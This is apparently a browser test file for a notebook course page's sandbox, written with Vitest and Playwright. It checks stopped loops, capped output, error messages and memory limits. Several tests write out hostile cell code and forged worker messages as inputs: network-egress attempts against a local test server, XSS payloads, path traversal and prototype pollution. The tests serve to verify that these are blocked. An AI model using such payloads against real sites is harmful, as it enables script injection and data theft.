import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pathToFileURL } from 'node:url';
import { expect, it, onTestFinished } from 'vitest';
import { exercises } from '../../../src/exercises/check/all-exercises';
import type { Exercise } from '../../../src/exercises/exercise';
import { readCourse } from '../../notebooks/course';
import { launchChromium } from '../chromium';
import type { ServedSite } from '../site/served-site';
import { cellOf, quiet, unfold } from './live-page';

const PAGE = '02-nudge-gradient.html';
const [first, second, third] = readCourse()[2].notebook.cells.filter(
  ({ cell_type }) => cell_type === 'code',
);

/** Tests of what happens where cells do what they should not. */
export function testTrials(opened: () => ServedSite): void {
  const open = async () => {
    const { page, complaints } = await opened().open(PAGE);
    const cell = cellOf(page, first.id);
    const runCode = async (code: string) => {
      await cell.write(code);
      return cell.run();
    };
    return { page, complaints, cell, runCode };
  };
  /** Closed where the test succeeds; the browser goes with the site. */
  const inPage = (
    name: string,
    test: (opened: Awaited<ReturnType<typeof open>>) => Promise<void>,
  ) =>
    it(name, async () => {
      const there = await open();
      await test(there);
      await there.page.context().close();
    });

  inPage('an endless loop is stopped, and the next cell runs', async (there) => {
    const { page, cell, runCode } = there;
    await cell.write('while (true) {}');
    await cell.cell.getByRole('button', { name: /^Run/ }).click();
    await page
      .locator('.live-bar .state')
      .getByText(/^Running cell 1…$/)
      .waitFor();
    await page.getByRole('button', { name: 'Stop', exact: true }).click();
    expect(await quiet(page)).toMatch(/^Stopped in cell 1\. Variables are gone/);
    expect(await cell.said()).toBe('Stopped.');
    await runCode('1 + 1');
    expect(await cell.said()).toBe('2');
  });

  inPage(
    'what was stopped runs for no other cell until it is changed',
    async (there) => {
      const { page, cell } = there;
      await cell.write('const made = 1; while (true) {}');
      await cell.cell.getByRole('button', { name: /^Run/ }).click();
      await page.locator('.live-bar .state').getByText('Running cell 1…').waitFor();
      await page.getByRole('button', { name: 'Stop', exact: true }).click();
      const [free, bound] = [cellOf(page, second.id), cellOf(page, third.id)];
      await free.write('1 + 1');
      await free.run();
      expect(await free.said()).toBe('2');
      await bound.write('made + 2');
      expect(await bound.run()).toBe(
        'Cell 3 needs cell 1, which was stopped: change cell 1, reset it or run it yourself.',
      );
      await cell.write('const made = 1;');
      await bound.run();
      expect(await bound.said()).toBe('3');
    },
  );

  inPage('what fails stands in the way of those alone that need it', async (there) => {
    const { page, cell } = there;
    await cell.write('const made = none();');
    const [free, bound] = [cellOf(page, second.id), cellOf(page, third.id)];
    await free.write('1 + 1');
    await free.run();
    expect(await free.said()).toBe('2');
    await bound.write('made + 2');
    expect(await bound.run()).toMatch(/^Cell 3 needs cell 1, which failed: /);
    await cell.write('const made = 1;');
    await bound.run();
    expect(await bound.said()).toBe('3');
  });

  it('an answer that never ends is stopped by itself', async () => {
    const { page } = await opened().open(PAGE);
    const { name } = exercises.find(({ tryOn }) => tryOn) as Exercise;
    const cell = cellOf(page, first.id);
    await cell.write(
      `import { check } from '../src'; check('${name}', () => { while (true) {} });`,
    );
    expect(await cell.run()).toMatch(/^Your answer had not ended after a second/);
    expect(await cell.said()).toMatch(/^Your answer had not ended after a second/);
    await cell.write('1 + 1');
    await cell.run();
    expect(await cell.said()).toBe('2');
    await page.context().close();
  });

  inPage('a million lines are cut', async ({ cell, runCode }) => {
    await runCode('for (let k = 0; k < 1e6; k++) console.log(k);');
    const said = await cell.said();
    expect(said).toMatch(/^0\n1\n2\n/);
    expect(said).toMatch(/… and so on: a cell may print 200,000 letters\.$/);
  });

  inPage('a loop that shows for ever is cut, and can be stopped', async (there) => {
    const { page, cell } = there;
    await cell.write(`import { display, newDisplay } from 'tslab';
      const place = newDisplay();
      for (let k = 0; ; k++) { display.html('x' + k); place.text('y' + k); }`);
    await cell.cell.getByRole('button', { name: /^Run/ }).click();
    await cell.cell.getByText('… and so on: a cell may show 1,000 things.').waitFor();
    await page.getByRole('button', { name: 'Stop', exact: true }).click();
    expect(await quiet(page)).toMatch(/^Stopped in cell 1/);
    expect(await cell.cell.locator('.outputs > *').count()).toBeLessThan(3000);
  });

  inPage('errors say what and where', async ({ cell, runCode }) => {
    expect(await runCode('const a = 1;\nnoName(a);')).toBe(
      'Cell 1 failed: ReferenceError: noName is not defined',
    );
    expect(await cell.said()).toBe(
      'ReferenceError: noName is not defined\nin line 2 of this cell\nNo cell defines noName. Is it spelled right?',
    );
    await runCode('const = 1');
    expect(await cell.said()).toMatch(/^SyntaxError: .*\nin line 1 of this cell$/);
    await runCode('const a = [1, 2;\nconsole.log(a)');
    expect(await cell.said()).toMatch(/\nThe \[ in line 1 is never closed\.$/);
  });

  inPage('late errors are shown in their cell', async ({ cell, runCode }) => {
    await runCode("setTimeout(() => { throw new Error('late'); }, 30); 'early'");
    await cell.cell.getByText('Error: late').waitFor();
    await runCode("void Promise.reject(new TypeError('later')); 'early'");
    await cell.cell.getByText('TypeError: later').waitFor();
  });

  inPage('names that the page has are free', async ({ page, cell, runCode }) => {
    const names = 'self, name, close, top, URL, Blob, performance, postMessage';
    await runCode(`const [${names}, importScripts] = [1, 2, 3, 4, 5, 6, 7, 8, 9];`);
    const other = cellOf(page, second.id);
    await other.write(`[${names}, importScripts]`);
    await other.run();
    expect((await other.said()).match(/\d/g)?.join('')).toBe('123456789');
    await runCode("import { showProgress } from '../src'; showProgress(1)(1, 0.5)");
    expect(await cell.said()).toBe('1 epoch: the loss went from 0.5000 to 0.5000.');
  });

  inPage('a hostile cell reaches nobody and nothing of the page', async (there) => {
    const { page, cell, runCode } = there;
    const { host, asked } = await otherHost();
    await page.evaluate('window.reached = []');
    await runCode(`import { display } from 'tslab';
      const ways: Record<string, () => unknown> = {
        fetch: () => fetch('http://${host}/fetch'),
        xhr: () => new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.onload = resolve;
          request.onerror = () => reject(new Error('refused'));
          request.open('GET', 'http://${host}/xhr');
          request.send();
        }),
        socket: () => new Promise((resolve, reject) => {
          const socket = new WebSocket('ws://${host}/socket');
          socket.onopen = resolve;
          socket.onerror = () => reject(new Error('refused'));
        }),
        events: () => new Promise((resolve, reject) => {
          const source = new EventSource('http://${host}/events');
          source.onopen = resolve;
          source.onerror = () => reject(new Error('refused'));
        }),
        script: () => importScripts('http://${host}/script.js'),
        eval: () => (0, eval)('1'),
        worker: () => new Promise((resolve, reject) => {
          const code = "fetch('http://${host}/nested').then(() => postMessage('out'), () => postMessage('in'))";
          const worker = new Worker(URL.createObjectURL(new Blob([code])));
          worker.onmessage = ({ data }) => data === 'out' ? resolve(data) : reject(new Error(data));
          worker.onerror = reject;
        }),
      };
      const out: string[] = [];
      for (const [name, way] of Object.entries(ways)) {
        try { await way(); out.push(name); } catch {}
      }
      console.log('out by', out.join(' ') || 'no way');
      display.html(\`<img src="http://${host}/picture" onerror="reached.push('onerror')">
        <svg onload="reached.push('svg')"></svg><script>reached.push('script')</script>
        <a href="javascript:reached.push('link')">link</a>
        <a href="https://${host}/link" onclick="reached.push('click')">away</a>
        <form action="http://${host}/form"><button>send</button></form>
        <iframe src="http://${host}/frame"></iframe>
        <style>* { background: url(http://${host}/style) }</style>
        <p style="background: url(http://${host}/inline)" id="content" class="top">text</p>\`);
      display.latex('$$\\\\href{javascript:reached.push(1)}{a} \\\\includegraphics{http://${host}/tex}$$');`);
    expect(await cell.said()).toMatch(/^out by no way\n/);
    await page.locator('.outputs .katex').first().waitFor();
    for (const link of await cell.cell.getByText('link', { exact: true }).all()) {
      await link.click();
    }
    expect(await page.evaluate('reached')).toEqual([]);
    expect(asked).toEqual([]);
    const strange =
      'script, svg, form, iframe, style, [onclick], [onerror], [id], [style*=url]';
    expect(await cell.cell.locator('.outputs').locator(strange).count()).toBe(0);
  });

  inPage('a cell finds nothing that reaches out, stores or talks', async (there) => {
    const { cell, runCode } = there;
    await runCode(`const names = ['fetch', 'fetchLater', 'XMLHttpRequest', 'WebSocket',
        'WebSocketStream', 'WebTransport', 'EventSource', 'importScripts', 'Worker',
        'SharedWorker', 'BroadcastChannel', 'MessageChannel', 'RTCPeerConnection',
        'indexedDB', 'caches', 'cookieStore', 'localStorage', 'navigator', 'postMessage',
        'webkitRequestFileSystem', 'FileReaderSync', 'Notification', 'location', 'self'];
      const left: string[] = [];
      for (let at = globalThis; at; at = Object.getPrototypeOf(at)) {
        left.push(...names.filter((name) => Object.hasOwn(at, name)));
      }
      console.log('left:', left.join(' ') || 'none');
      void Object.assign(Object.prototype, { polluted: 1 });`);
    expect(await cell.said()).toBe('left: none');
    await runCode('({}).polluted');
    expect(await cell.said()).toBe('1');
    expect(await there.page.evaluate('({}).polluted ?? "clean"')).toBe('clean');
  });

  inPage('the policy alone keeps a worker in', async ({ page }) => {
    const { host, asked } = await otherHost();
    const out = await page.evaluate(`new Promise((resolve) => {
      const inside = async () => {
        const heard = (target, good) => new Promise((resolve, reject) => {
          target[good] = resolve;
          target.onerror = reject;
        });
        const nested = 'fetch("http://${host}/nested").then(() => postMessage(1))';
        const ways = {
          fetch: () => fetch('http://${host}/fetch'),
          beacon: () => navigator.sendBeacon('http://${host}/beacon') || Promise.reject(),
          xhr: () => {
            const request = new XMLHttpRequest();
            request.open('GET', 'http://${host}/xhr');
            const loaded = heard(request, 'onload');
            request.send();
            return loaded;
          },
          socket: () => heard(new WebSocket('ws://${host}/socket'), 'onopen'),
          events: () => heard(new EventSource('http://${host}/events'), 'onopen'),
          script: () => importScripts('http://${host}/script.js'),
          module: () => import('http://${host}/module.js'),
          data: () => import('data:text/javascript,1'),
          transport: () => new WebTransport('https://${host}/').ready,
          eval: () => (0, eval)('1'),
          nested: () => Promise.race([
            heard(new Worker(URL.createObjectURL(new Blob([nested]))), 'onmessage'),
            new Promise((_, reject) => setTimeout(reject, 500)),
          ]),
        };
        const out = [];
        for (const [name, way] of Object.entries(ways)) {
          try { await way(); out.push(name); } catch {}
        }
        postMessage(out);
      };
      const worker = new Worker(URL.createObjectURL(new Blob(['(' + inside + ')()'])));
      worker.onmessage = ({ data }) => resolve(data);
    })`);
    expect(out).toEqual([]);
    expect(asked).toEqual([]);
  });

  inPage(
    'what is forged in the name of the worker does nothing but show',
    async (there) => {
      const { page, complaints, cell, runCode } = there;
      const asked: string[] = [];
      page.on('request', (request) => asked.push(request.url()));
      await page.evaluate(`window.reached = [];
      window.Worker = class extends Worker {
        constructor(address) {
          super(address);
          this.addEventListener('message', ({ data }) => {
            if (data?.type === 'ready') window.kernel = this;
          });
        }
      };`);
      await runCode('1');
      await page.evaluate(`const forged = [
        { type: 'need', name: '../theme' },
        { type: 'need', name: '../../../elsewhere' },
        { type: 'need', name: 'page' },
        { type: 'verdict', name: 'forged', verdict: 'right' },
        { type: 'verdict', name: 'x'.repeat(1e6), verdict: 'right' },
        { type: 'verdict', name: 'forged', verdict: '<img src=x onerror="reached.push(1)">' },
        { type: 'limit', ms: -1 },
        { type: 'limit', ms: 1e9 },
        { type: 'names', cells: 'none' },
        { type: 'names', cells: [] },
        { type: 'moved', move: 1, status: 'ok', outputs: [{ output_type: 'unknown' }] },
        { type: 'done', run: 1, status: 'ok', count: {} },
        JSON.parse('{"__proto__":{"polluted":1},"type":"shown","run":1}'),
        { type: 'done', run: 1, status: 'error' },
        { type: 'unknown' },
        { type: { toString: null } },
        ...[null, undefined, 7, 'text', [], {}],
      ];
      const html = '<img src="x" onerror="reached.push(2)"><script>reached.push(3)</script>';
      const figure = {
        data: [{ x: [1], y: [1], type: 'scatter', text: [html], mode: 'text' }],
        layout: {
          width: '"><script>reached.push(4)</script>',
          height: 100,
          title: { text: '<a href="javascript:reached.push(5)">title</a>' + html },
        },
      };
      for (const data of [
        { 'text/html': html },
        { 'text/html': { toString: html } },
        { 'image/png': '" onerror="reached.push(6)' },
        { 'application/vnd.plotly.v1+json': figure },
        { 'application/vnd.plotly.v1+json': 'none' },
        { 'application/vnd.plotly.v1+json': { ...figure, layout: { width: 300, height: 200, title: figure.layout.title } } },
        { 'application/vnd.plotly.v1+json': { data: 7, layout: { width: 9, height: 9 } } },
        { 'application/vnd.backprop-twice.controls+json': { x: { type: 'choice' } } },
      ]) {
        forged.push({ type: 'shown', run: 1, output: { output_type: 'display_data', data } });
      }
      for (const output of [
        { output_type: 'stream', name: 'stdout', text: 7 },
        { output_type: 'stream', name: 'stdout' },
        { output_type: 'display_data' },
        { output_type: 'display_data', data: null },
        { output_type: 'unknown' },
        null,
      ]) {
        forged.push({ type: 'shown', run: 1, output });
      }
      for (let k = 0; k < 3000; k++) forged.push(...forged.slice(0, 12));
      for (const data of forged) {
        kernel.dispatchEvent(new MessageEvent('message', { data }));
      }`);
      await cell.cell.locator('.gtitle a').first().dispatchEvent('click');
      expect(await page.evaluate('reached')).toEqual([]);
      expect(asked.filter((url) => /theme|elsewhere|page\.js/.test(url))).toEqual([]);
      expect(complaints.filter((one) => /^\w*Error: /.test(one))).toEqual([]);
      expect(await page.evaluate('"polluted" in {}')).toBe(false);
      expect(await page.evaluate('JSON.stringify(localStorage)')).not.toContain(
        'verdict',
      );
      await runCode('1 + 1');
      expect(await cell.said()).toBe('2');
      await page.goto(`${opened().address}index.html`);
      expect(await page.evaluate('window.reached ?? []')).toEqual([]);
    },
  );

  inPage(
    'a cell that takes more arrays than there is room is told so',
    async (there) => {
      const { cell, runCode } = there;
      await runCode(
        'const all: unknown[] = []; for (;;) all.push(new Float64Array(1e7));',
      );
      expect(await cell.said()).toMatch(
        /^RangeError: Array buffer allocation failed\nin line 1 of this cell\nThere is no room for so much/,
      );
      await runCode('1 + 1');
      expect(await cell.said()).toBe('2');
    },
  );

  it('a cell that fills memory ends the page, and what was typed is there', async () => {
    // As much as four gigabytes would do, in less time.
    const browser = await launchChromium('--js-flags=--max-old-space-size=200');
    onTestFinished(() => browser.close());
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${opened().address}${PAGE}`);
    const code = 'const all: object[] = []; for (;;) all.push(Array(1e4).fill(0.5));';
    const cell = cellOf(page, first.id);
    await cell.write(code);
    const crash = page.waitForEvent('crash');
    await cell.cell.getByRole('button', { name: /^Run/ }).click();
    await crash;
    const again = await context.newPage();
    await again.goto(`${opened().address}${PAGE}`);
    await unfold(again);
    const kept = cellOf(again, first.id);
    expect(await kept.cell.locator('.tools + *').innerText()).toBe(code);
    await kept.write('1 + 1');
    await kept.run();
    expect(await kept.said()).toBe('2');
  });

  it('from a disk, without a server, all is the same', async () => {
    const { page } = await opened().open(PAGE);
    await page.goto(`${pathToFileURL(opened().folder)}/${PAGE}`);
    await page.getByRole('button', { name: 'Run all' }).click();
    expect(await quiet(page)).toMatch(/^All cells ran in /);
    await page.context().close();
  });
}

/** Another host, until the test ends, and what it is asked for. */
async function otherHost(): Promise<{ host: string; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    asked.push(url);
    response.setHeader('Access-Control-Allow-Origin', '*').end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  return { host: `127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}
